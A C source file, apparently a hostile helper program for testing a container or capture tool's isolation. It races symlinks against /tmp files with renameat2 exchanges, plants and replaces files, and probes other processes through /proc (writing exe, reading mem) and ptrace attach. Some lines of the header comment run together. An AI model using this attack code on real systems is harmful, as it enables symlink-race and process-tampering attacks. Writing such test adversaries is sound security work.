/*
 * A second program in a container, which attacks while a capture runs. Static, for any image.
 *
 *	exchange TARGET NAME...	exchanges each NAME of /tmp with a symbolic link to TARGET, all the
 *				time; a NAME that ends in "*" is a prefix
 *	hunt			looks for other processes in /proc that it could open, write or
 *trace plant TARGET NAME	makes NAME a symbolic link to TARGET, once replace NAME
 *puts a plain file in the place of NAME, once away NAME		renames NAME, once
 *
 * It says what it has done on stdout: "exchanged" after each hundred exchanges, "seen", "opened",
 * "traced" for each process, "planted", "replaced", "away"; or why it could not.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
#include <unistd.h>

#define BAIT "/tmp/.bait"

static unsigned long exchanged;

static void exchange(const char *path, const char *target)
{
	char away[64];

	if (renameat2(AT_FDCWD, BAIT, AT_FDCWD, path, RENAME_EXCHANGE) == 0) {
		usleep(50);
		if (renameat2(AT_FDCWD, BAIT, AT_FDCWD, path, RENAME_EXCHANGE) < 0) {
			/* Our link was removed, or what it hid is in use: another bait. */
			snprintf(away, sizeof(away), "/tmp/.away-%lu", exchanged);
			rename(BAIT, away);
			symlink(target, BAIT);
		}
		if (++exchanged % 100 == 0)
			puts("exchanged");
	}
}

static bool matches(const char *name, const char *pattern)
{
	size_t len = strlen(pattern);

	if (len && pattern[len - 1] == '*')
		return strncmp(name, pattern, len - 1) == 0;
	return strcmp(name, pattern) == 0;
}

static void exchange_all(const char *target, char **patterns)
{
	char path[300];
	struct dirent *e;

	symlink(target, BAIT);
	for (;;) {
		DIR *d = opendir("/tmp");

		while (d && (e = readdir(d)))
			for (char **p = patterns; *p; p++)
				if (matches(e->d_name, *p)) {
					snprintf(path, sizeof(path), "/tmp/%s", e->d_name);
					exchange(path, target);
				}
		if (d)
			closedir(d);
	}
}

static void attack(int pid)
{
	static const char *const files[] = {"exe", "root/etc/hostname", "mem", "fd/0", "cwd/."};
	char path[64];

	printf("seen %d\n", pid);
	for (size_t i = 0; i < sizeof(files) / sizeof(*files); i++) {
		int fd;

		snprintf(path, sizeof(path), "/proc/%d/%s", pid, files[i]);
		fd = open(path, (i == 0 ? O_WRONLY : O_RDONLY) | O_NONBLOCK);
		if (fd >= 0) {
			printf("opened %s\n", path);
			close(fd);
		}
	}
	if (ptrace(PTRACE_ATTACH, pid, NULL, NULL) == 0) {
		printf("traced %d\n", pid);
		waitpid(pid, NULL, __WALL);
		ptrace(PTRACE_DETACH, pid, NULL, NULL);
	}
}

/* All but the container's own: the first process, and ourselves. */
static void hunt(void)
{
	for (;;) {
		DIR *d = opendir("/proc");
		struct dirent *e;

		while (d && (e = readdir(d))) {
			int pid = (int)strtol(e->d_name, NULL, 10);

			if (pid > 1 && pid != getpid())
				attack(pid);
		}
		if (d)
			closedir(d);
	}
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	puts("ready");
	if (argc > 3 && strcmp(argv[1], "exchange") == 0)
		exchange_all(argv[2], argv + 3);
	if (argc > 1 && strcmp(argv[1], "hunt") == 0)
		hunt();
	if (argc > 3 && strcmp(argv[1], "plant") == 0) {
		unlink(argv[3]);
		puts(symlink(argv[2], argv[3]) == 0 ? "planted" : strerror(errno));
		return 0;
	}
	if (argc > 2 && strcmp(argv[1], "replace") == 0) {
		int fd = unlink(argv[2]) < 0 ? -1 : open(argv[2], O_CREAT | O_EXCL | O_RDWR, 0600);

		puts(fd >= 0 ? "replaced" : strerror(errno));
		return 0;
	}
	if (argc > 2 && strcmp(argv[1], "away") == 0) {
		puts(rename(argv[2], BAIT) == 0 ? "away" : strerror(errno));
		return 0;
	}
	return 2;
}
